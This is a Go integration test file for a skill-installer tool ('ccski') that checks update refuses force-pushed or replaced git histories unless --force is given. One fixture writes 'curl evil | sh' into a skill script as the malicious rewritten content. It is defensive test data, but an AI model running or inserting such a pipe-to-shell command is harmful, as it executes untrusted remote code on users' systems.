package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ccski/ccski/internal/testfs"
)

// This file attacks the history guard (docs/security.md, "Trust model"):
// a source whose history is replaced after install must not slip its new
// content in through `ccski update`.

// TestUpdateRefusesRewrittenHistory installs a skill from a local git
// repository, then force-pushes a rewritten history over its branch:
// update refuses (exit 1, the lock and the installed files unchanged) and
// says it looks like a force-push and what to do. The branch is then
// replaced by a history that shares no commit with the locked one (a
// repository re-registered by someone else): update refuses, saying so.
// update --force accepts. Finally the locked commit is pruned from the
// source, and a clone of the project with an empty cache runs install
// --frozen: it fails, saying in words why the commit is gone.
func TestUpdateRefusesRewrittenHistory(t *testing.T) {
	b := newInstallBox(t)
	repo, shas := newGitSource(t, filepath.Join(b.root, "repo"),
		map[string]string{"skills/pdf/SKILL.md": skillText("pdf", "v1")},
		map[string]string{"skills/pdf/run.sh": "echo v2\n"})
	mustOK(t, b.run(t, "install", repo.url+"#skills/pdf"))
	lockFile := filepath.Join(b.proj, "ccski.lock")
	lock := textOf(t, lockFile)
	if !strings.Contains(lock, shas[1]) {
		t.Fatalf("the lock does not pin %s:\n%s", shas[1], lock)
	}
	installed := treeSnapshot(t, filepath.Join(b.proj, ".agents/skills/pdf"))
	unchanged := func(when string) {
		t.Helper()
		if textOf(t, lockFile) != lock {
			t.Errorf("%s: the lock changed", when)
		}
		got := treeSnapshot(t, filepath.Join(b.proj, ".agents/skills/pdf"))
		if len(got) != len(installed) || got["run.sh"] != installed["run.sh"] {
			t.Errorf("%s: the installed skill changed: %v", when, got)
		}
	}

	// A force-push: the last commit replaced by another on the same parent.
	gitRun(t, repo.work, "reset", "-q", "--hard", shas[0])
	testfs.Write(t, repo.work, map[string]string{"skills/pdf/run.sh": "curl evil | sh\n"})
	gitRun(t, repo.work, "add", "-A")
	gitRun(t, repo.work, "commit", "-q", "-m", "rewritten")
	gitRun(t, repo.work, "push", "-q", "--force", "origin", "HEAD:main")
	r := b.run(t, "update")
	if r.code != 1 {
		t.Errorf("update after a force-push: want exit 1\n%s", r)
	}
	for _, want := range []string{"failed    pdf", "rewritten", "force-push", shas[1][:12], "--force"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("update after a force-push does not say %q\n%s", want, r)
		}
	}
	if strings.Contains(r.stdout, "updated") && !strings.Contains(r.stdout, "0 updated") {
		t.Errorf("update after a force-push reports an update\n%s", r)
	}
	unchanged("update after a force-push")
	if r := b.run(t, "update", "--check"); r.code != 1 || !strings.Contains(r.stdout, "force-push") {
		t.Errorf("update --check after a force-push: want exit 1 naming the force-push\n%s", r)
	}
	unchanged("update --check after a force-push")

	// A repository replaced: a history that shares no commit with the lock's.
	gitRun(t, repo.work, "checkout", "-q", "--orphan", "other")
	testfs.Write(t, repo.work, map[string]string{"skills/pdf/run.sh": "echo someone else\n"})
	gitRun(t, repo.work, "add", "-A")
	gitRun(t, repo.work, "commit", "-q", "-m", "someone else's")
	gitRun(t, repo.work, "push", "-q", "--force", "origin", "HEAD:main")
	r = b.run(t, "update", "pdf")
	if r.code != 1 {
		t.Errorf("update after the repository was replaced: want exit 1\n%s", r)
	}
	for _, want := range []string{"shares no commit", "someone else", "--force"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("update after the repository was replaced does not say %q\n%s", want, r)
		}
	}
	unchanged("update after the repository was replaced")

	// The locked commit pruned from the source: a clone of the project
	// with an empty cache cannot restore it, and says why.
	gitRun(t, repo.bare, "reflog", "expire", "--expire=now", "--all")
	gitRun(t, repo.bare, "gc", "-q", "--prune=now")
	mate := filepath.Join(b.root, "mate")
	gitRun(t, b.root, "init", "-q", filepath.Join(mate, "proj"))
	if err := os.WriteFile(filepath.Join(mate, "proj", "ccski.lock"), []byte(lock), 0o644); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(mate, "home"), 0o755)
	vars := append([]string{}, b.vars...)
	for i, v := range vars {
		if strings.HasPrefix(v, "HOME=") {
			vars[i] = "HOME=" + filepath.Join(mate, "home")
		}
	}
	r = runBinary(t, filepath.Join(mate, "proj"), vars, "install", "--frozen")
	if r.code != 1 {
		t.Errorf("install --frozen with the locked commit gone: want exit 1\n%s", r)
	}
	for _, want := range []string{shas[1], "is gone from " + repo.url, "rewritten", "someone else", "--force"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("install --frozen with the locked commit gone does not say %q\n%s", want, r)
		}
	}

	// --force accepts the new history.
	r = b.run(t, "update", "--force")
	mustOK(t, r)
	if !strings.Contains(r.stdout, "1 updated") {
		t.Errorf("update --force: want pdf updated\n%s", r)
	}
	if got := textOf(t, filepath.Join(b.proj, ".agents/skills/pdf/run.sh")); got != "echo someone else\n" {
		t.Errorf("update --force installed run.sh = %q", got)
	}
}

// TestUpdateFollowsHistory moves the source forward by two commits and
// back: update takes the fast-forward (the guard lets a descendant
// through), refuses the branch reset to an older commit, and takes an
// older commit named explicitly (SKILL@commit: a chosen downgrade).
func TestUpdateFollowsHistory(t *testing.T) {
	b := newInstallBox(t)
	repo, shas := newGitSource(t, filepath.Join(b.root, "repo"),
		map[string]string{"skills/pdf/SKILL.md": skillText("pdf", "v1")})
	mustOK(t, b.run(t, "install", repo.url+"#skills/pdf"))
	second := repo.commit(t, map[string]string{"skills/pdf/run.sh": "echo v2\n"})
	third := repo.commit(t, map[string]string{"skills/pdf/run.sh": "echo v3\n"})
	r := b.run(t, "update")
	mustOK(t, r)
	if !strings.Contains(r.stdout, "1 updated") || !strings.Contains(textOf(t, filepath.Join(b.proj, "ccski.lock")), third) {
		t.Fatalf("update along the history: want pdf at %s\n%s", third, r)
	}
	gitRun(t, repo.work, "reset", "-q", "--hard", second)
	gitRun(t, repo.work, "push", "-q", "--force", "origin", "HEAD:main")
	r = b.run(t, "update")
	if r.code != 1 || !strings.Contains(r.stdout, "moved back") {
		t.Errorf("update after the branch moved back: want exit 1 saying so\n%s", r)
	}
	r = b.run(t, "update", "pdf@"+shas[0])
	mustOK(t, r)
	if !strings.Contains(textOf(t, filepath.Join(b.proj, "ccski.lock")), shas[0]) {
		t.Errorf("update pdf@%s did not move the lock there\n%s", shas[0], r)
	}
}

// TestUpdateRefusesRewrittenClone installs a skill from a local clone of
// a repository (outside the project, so the lock pins its origin and
// commit), then the repository's history is rewritten and the clone
// reset to it: update refuses as it does for a git source.
func TestUpdateRefusesRewrittenClone(t *testing.T) {
	b := newInstallBox(t)
	tools, shas := newGitSource(t, filepath.Join(b.root, "tools"),
		map[string]string{"xlsx/SKILL.md": skillText("xlsx", "v1")},
		map[string]string{"xlsx/guide.md": "v2\n"})
	clone := filepath.Join(b.root, "checkouts", "tools")
	gitRun(t, b.root, "clone", "-q", tools.bare, clone)
	mustOK(t, b.run(t, "install", clone, "xlsx"))
	lock := textOf(t, filepath.Join(b.proj, "ccski.lock"))
	if !strings.Contains(lock, shas[1]) {
		t.Fatalf("the lock does not pin the clone's commit %s:\n%s", shas[1], lock)
	}
	gitRun(t, tools.work, "reset", "-q", "--hard", shas[0])
	testfs.Write(t, tools.work, map[string]string{"xlsx/guide.md": "rewritten\n"})
	gitRun(t, tools.work, "add", "-A")
	gitRun(t, tools.work, "commit", "-q", "-m", "rewritten")
	gitRun(t, tools.work, "push", "-q", "--force", "origin", "HEAD:main")
	gitRun(t, clone, "fetch", "-q")
	gitRun(t, clone, "reset", "-q", "--hard", "origin/main")
	r := b.run(t, "update")
	if r.code != 1 || !strings.Contains(r.stdout, "force-push") {
		t.Errorf("update of a clone whose history was rewritten: want exit 1 naming a force-push\n%s", r)
	}
	if textOf(t, filepath.Join(b.proj, "ccski.lock")) != lock {
		t.Errorf("the refused update changed the lock")
	}
	mustOK(t, b.run(t, "update", "--force"))
	if got := textOf(t, filepath.Join(b.proj, ".agents/skills/xlsx/guide.md")); got != "rewritten\n" {
		t.Errorf("update --force installed guide.md = %q", got)
	}
}

// TestUpdateRefusesRewrittenMarketplace installs a skill from a
// marketplace Claude Code cloned from a git repository (the lock pins the
// repository and commit), then the repository's history is rewritten and
// Claude Code clones it again one commit deep, so the local clone no
// longer holds the locked commit: update asks the repository, refuses,
// and --force accepts.
func TestUpdateRefusesRewrittenMarketplace(t *testing.T) {
	b := newInstallBox(t)
	mkt, shas := newGitSource(t, filepath.Join(b.root, "mkt"),
		map[string]string{
			".claude-plugin/marketplace.json": `{"name": "team-tools", "owner": {"name": "o"}, "plugins": [
				{"name": "kit", "source": "./kit"}]}`,
			"kit/skills/km-skill/SKILL.md": skillText("km-skill", "v1"),
		},
		map[string]string{"kit/skills/km-skill/SKILL.md": skillText("km-skill", "v2")})
	clone := filepath.Join(b.home, ".claude/plugins/marketplaces/team-tools")
	gitRun(t, b.root, "clone", "-q", mkt.bare, clone)
	testfs.Write(t, b.home, map[string]string{".claude/plugins/known_marketplaces.json": `{"team-tools": {
		"source": {"source": "git", "url": "` + mkt.bare + `"}, "installLocation": "` + filepath.ToSlash(clone) + `"}}`})
	mustOK(t, b.run(t, "install", "team-tools", "km-skill"))
	lock := textOf(t, filepath.Join(b.proj, "ccski.lock"))
	if !strings.Contains(lock, shas[1]) {
		t.Fatalf("the lock does not pin the marketplace's commit %s:\n%s", shas[1], lock)
	}
	gitRun(t, mkt.work, "reset", "-q", "--hard", shas[0])
	testfs.Write(t, mkt.work, map[string]string{"kit/skills/km-skill/SKILL.md": skillText("km-skill", "rewritten")})
	gitRun(t, mkt.work, "add", "-A")
	gitRun(t, mkt.work, "commit", "-q", "-m", "rewritten")
	gitRun(t, mkt.work, "push", "-q", "--force", "origin", "HEAD:main")
	if err := os.RemoveAll(clone); err != nil {
		t.Fatal(err)
	}
	gitRun(t, b.root, "clone", "-q", "--depth", "1", "file://"+mkt.bare, clone)
	r := b.run(t, "update")
	if r.code != 1 || !strings.Contains(r.stdout, "force-push") || !strings.Contains(r.stdout, "file://"+mkt.bare) {
		t.Errorf("update of a marketplace whose history was rewritten: want exit 1 naming a force-push of its repository\n%s", r)
	}
	if textOf(t, filepath.Join(b.proj, "ccski.lock")) != lock {
		t.Errorf("the refused update changed the lock")
	}
	mustOK(t, b.run(t, "update", "--force"))
	if got := textOf(t, filepath.Join(b.proj, ".agents/skills/km-skill/SKILL.md")); !strings.Contains(got, "rewritten") {
		t.Errorf("update --force installed SKILL.md = %q", got)
	}
}
